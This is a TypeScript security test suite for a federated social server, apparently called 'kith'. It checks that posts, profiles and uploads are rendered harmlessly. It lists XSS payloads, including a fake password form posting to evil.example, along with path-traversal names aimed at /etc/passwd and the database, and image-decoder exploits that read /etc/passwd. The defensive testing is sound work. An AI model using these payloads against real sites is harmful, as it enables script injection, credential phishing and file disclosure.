import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { request } from "node:http";
import path from "node:path";
import { before, test } from "node:test";
import { forEachDatabase } from "../../packages/server/test/support/server/databases.ts";
import type { PodPerson } from "../../packages/server/test/support/remote/diaspora-pod.ts";
import {
  pictureForm,
  storedFiles,
} from "../../packages/server/test/support/scenes/pictures.ts";
import { plan } from "../../packages/server/test/support/scenes/planning.ts";
import { podPost } from "../../packages/server/test/support/remote/pod-entities.ts";
import { idOf } from "../../packages/server/test/support/remote/proving-actor.ts";
import type { RemoteActor } from "../../packages/server/test/support/remote/remote-server.ts";
import { befriend } from "../../packages/server/test/support/remote/several-servers.ts";
import type { PostRecord } from "../../packages/server/test/support/server/wire.ts";
import { listProjectFiles, root } from "../../scripts/project-files.ts";
import { create, useCaseServers } from "./case-town.ts";

/** Each would execute or load something in a browser that read it as markup. */
const HOSTILE = [
  "<script>hostile(1)</script>",
  '"><img src=x onerror=hostile(1)>',
  "'><svg onload=hostile(1)>",
  "<form action=https://evil.example/><input name=password></form>",
  "<iframe srcdoc='<script>hostile(1)</script>'></iframe>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=hostile(1)>">',
  '<a href="javascript:hostile(1)">x</a>',
  "[x](javascript:hostile(1))",
  '![x](x "onerror=hostile(1)")',
  "<b onmouseover=hostile(1)>x</b>",
  "<base href=https://evil.example/><style>@import '//evil.example'</style>",
  "</title><script>hostile(1)</script>",
  "</textarea><script>hostile(1)</script>",
  "\u202e<script>hostile(1)</script>",
] as const;

const FORBIDDEN_TAGS = /^<(script|iframe|svg|math|style|base|object|embed)\b/i;
/** Our own drawings begin so, without any address. */
const OWN_DRAWINGS: ReadonlySet<string> = new Set([
  "<svg hidden>",
  '<svg class="icon" aria-hidden="true">',
  '<svg class="icon" viewBox="0 0 28 28" aria-hidden="true">',
]);
/** The one script of a page, whose address no text can choose. */
const OWN_SCRIPT =
  /^<script type="module" src="\/assets\/kith\.js\?v=[0-9a-f]{12}">$/;
const ATTRIBUTES = /\s([a-z][\w-]*)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;

/** Patterns that our pages never contain, whoever wrote their content. */
function assertHarmless(html: string, what: string): void {
  for (const [tag = ""] of html.matchAll(
    /<[a-z](?:"[^"]*"|'[^']*'|[^"'>])*>/gi,
  )) {
    if (!OWN_DRAWINGS.has(tag) && !OWN_SCRIPT.test(tag))
      assert.doesNotMatch(tag, FORBIDDEN_TAGS, what);
    for (const [, name = "", value = ""] of tag.matchAll(ATTRIBUTES)) {
      assert.doesNotMatch(name, /^(on|style$|srcdoc$)/i, `${what} ${tag}`);
      assert.doesNotMatch(value, /^["']?\s*javascript:/i, `${what} ${tag}`);
      if (/^(src|action|formaction)$/i.test(name))
        assert.doesNotMatch(value, /evil\.example/, `${what} ${tag}`);
    }
  }
}

forEachDatabase((kind) => {
  const town = useCaseServers(kind);
  const { kith, ann, evilPod, mallory, followed } = town;
  let eve: RemoteActor;
  let bob: PodPerson;
  before(async () => {
    eve = await followed(mallory());
    bob = evilPod().person("bob");
    await befriend(ann(), bob.handle);
    await kith().settle();
  });

  /** A public page, with its policy. */
  async function page(at: string, what: string): Promise<string> {
    const headers = { accept: "text/html" };
    const response = await fetch(kith().baseUrl + at, { headers });
    const text = await response.text();
    assert.equal(response.status, 200, `${at} ${text.slice(0, 200)}`);
    const policy = response.headers.get("content-security-policy") ?? "";
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.doesNotMatch(policy, /script-src[^;]*unsafe|unsafe-eval/);
    assert.equal(response.headers.get("x-content-type-options"), "nosniff");
    assertHarmless(text, what);
    return text;
  }

  test("case 50: a remote post runs no code on its page, over either protocol", async () => {
    for (const hostile of HOSTILE) {
      const note = eve.note({
        content: `<p>before</p>${hostile}<p>after</p>`,
        summary: hostile,
        name: hostile,
        location: { type: "Place", name: hostile, latitude: 1, longitude: 1 },
        tag: [{ type: "Hashtag", name: `#${hostile}`, href: hostile }],
        attachment: [
          {
            type: "Image",
            mediaType: "image/png",
            url: "https://a.example/x.png",
            name: hostile,
          },
        ],
      });
      await eve.deliver(kith(), create(eve, note));
      const post = podPost(bob, {
        text: `before ${hostile} after`,
        providerDisplayName: hostile.slice(0, 60),
        location: { type: "location", address: hostile, lat: "1", lng: "1" },
      });
      await bob.deliver(kith(), post);
      const { posts } = kith().server.features;
      const stored = await posts.find({ uri: idOf(note) });
      assert.ok(stored && (await posts.find({ guid: post.guid })), hostile);
      for (const guid of [stored.guid, post.guid]) {
        const text = await page(`/posts/${guid}`, hostile);
        assert.match(text, /before/);
      }
    }
  });

  test("case 51: local text anywhere is shown as plain text, or as Markdown without HTML", async () => {
    const cat = await kith().person();
    for (const hostile of HOSTILE) {
      await cat.put("/profile", {
        FirstName: hostile.replaceAll(";", "").slice(0, 32),
        Bio: hostile,
        Location: hostile,
      });
      const json = {
        post: `x ${hostile}`,
        poll_question: hostile,
        poll_answer: [`1 ${hostile}`, `2 ${hostile}`],
        location_address: hostile,
        location_lat: "1",
        location_lng: "1",
      };
      const answer = await cat.call("POST", "/posts", { json });
      assert.equal(answer.status, 200, answer.text);
      const { Guid, ID } = JSON.parse(answer.text) as PostRecord;
      await cat.post(`/posts/${ID}/comments`, { comment: hostile });
      await page(`/posts/${Guid}`, hostile);
      await plan(cat, {
        summary: hostile,
        description: hostile,
        location: hostile,
      });
      const [announced] = await cat.get<PostRecord[]>("/posts");
      await page(`/posts/${announced?.Guid}`, hostile);
      await page(`/u/${cat.username}`, hostile);
    }
  });

  test("case 53: no file name leads out of its folder", async () => {
    const names = [
      "../kith.sqlite",
      "..%2fkith.sqlite",
      "..%5ckith.sqlite",
      "%2e%2e%2fkith.sqlite",
      "..%252fkith.sqlite",
      "....//kith.sqlite",
      "%2fetc%2fpasswd",
      "/etc/passwd",
      "..%00.png",
      "thumb_..%2f..%2fkith.sqlite",
      "%c0%ae%c0%ae%c0%afkith.sqlite",
      ".",
      "..",
      "%2e%2e",
      "",
      "CON",
      "a".repeat(5000),
    ];
    const folders = ["/media/", "/uploads/x/", "/proxy/x/", "/assets/"];
    for (const folder of folders)
      for (const name of names) {
        const { status, text } = await raw(folder + name);
        assert.ok(status >= 300 && status < 500, `${folder}${name} ${status}`);
        assert.doesNotMatch(text, /SQLite format|root:/);
      }
  });

  /** Requests a path without normalizing it. */
  function raw(at: string): Promise<{ status: number; text: string }> {
    const { hostname, port } = new URL(kith().baseUrl);
    return new Promise((done, fail) => {
      request({ hostname, port, path: at }, (response) => {
        let text = "";
        response.setEncoding("latin1");
        response.on("data", (chunk: string) => (text += chunk));
        response.on("end", () =>
          done({ status: response.statusCode ?? 0, text }),
        );
      })
        .on("error", fail)
        .end();
    });
  }

  test("case 54: only the displayed image formats are decoded", async () => {
    const before = await storedFiles(kith());
    const texts = {
      SVG: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
      MVG: "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://evil.example/x'\npop graphic-context\n",
      MSL: '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
      EPS: "%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
      PDF: "%PDF-1.7\n1 0 obj\n",
      BMP: "BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00",
      ICO: "\x00\x00\x01\x00\x01\x00\x10\x10",
      PNM: "P6\n1 1\n255\nabc",
      FITS: "SIMPLE  =                    T",
      HDR: "#?RADIANCE\n",
      EXR: "\x76\x2f\x31\x01\x02\x00\x00\x00",
      JP2: "\x00\x00\x00\x0cjP  \r\n\x87\n",
      JXL: "\xff\x0a\x00\x00",
      XBM: "#define x_width 1\n#define x_height 1\n",
      "a path": "@/etc/passwd",
      "a protocol": "https://evil.example/x.png",
    };
    for (const [what, text] of Object.entries(texts))
      for (const type of ["image/png", "image/svg+xml"]) {
        const bytes = Buffer.from(text, "latin1");
        const multipart = pictureForm(bytes, {}, { type, fileName: "x.png" });
        const { status } = await ann().call("POST", "/photos", { multipart });
        assert.ok(status === 415 || status === 400, `${what} ${status}`);
      }
    assert.deepEqual(await storedFiles(kith()), before);
  });
});

test("case 59: no user text becomes part of a statement", () => {
  const src = "packages/server/src/";
  const raw = listProjectFiles([src])
    .filter(
      (file) => file.endsWith(".ts") && !/\.(test|fixture)\.ts$/.test(file),
    )
    .filter((file) =>
      /\bsql\.(raw|lit)\b/.test(readFileSync(path.join(root, file), "utf8")),
    );
  // Only our own names and numbers are interpolated: columns, types, settings, statements of migrations.
  const known = [
    "features/homes/comment-arrival-store.ts",
    "features/homes/reply-queries.ts",
    "features/moves/move-store.ts",
    "features/indexing/post-content-queries.ts",
    "features/page.ts",
    "features/posts/queries/stream-queries.ts",
    "db/dialect.ts",
    "db/migrate.ts",
    "db/examine-database.ts",
    "db/maintenance/maintain-database.ts",
    "jobs/stores/job-store.ts",
  ];
  assert.deepEqual(
    raw.sort(),
    known.map((file) => src + file).sort(),
    "a value belongs into a parameter",
  );
});
